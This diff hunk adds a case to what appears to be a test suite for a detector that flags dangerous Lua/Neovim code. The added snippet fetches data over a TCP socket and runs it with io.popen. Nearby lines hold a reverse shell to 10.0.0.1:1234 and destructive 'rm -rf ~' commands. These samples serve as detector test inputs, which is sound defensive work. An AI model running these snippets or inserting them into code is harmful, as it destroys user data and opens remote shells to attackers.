@@ -20,6 +20,12 @@ describe("what is caught", () => {
     'vim.fn.system({"rm", "-rf", "x"})': ["runs: rm -rf x"],
     'vim.cmd("!rm -rf ~")': ["runs vim: !rm -rf ~"],
     'vim.fn.delete("d", "rf")': ["delete d recursive"],
+    "local s = require('socket').tcp(); s:connect('h', 1); local r = s:receive(); io.popen(r)": [
+      "connect tcp://h:1 tunnel checked",
+      "runs shell: $(response)",
+      "run sh fetched from[fetched tcp://h:1]",
+      "runs shell from stdin",
+    ],
     'local s = require("socket"); local c = s.connect("10.0.0.1", 1234); os.execute("/bin/sh -i <&3 >&3")': [
       "connect tcp://10.0.0.1:1234 tunnel checked",
       "runs shell: /bin/sh -i <&3 >&3",
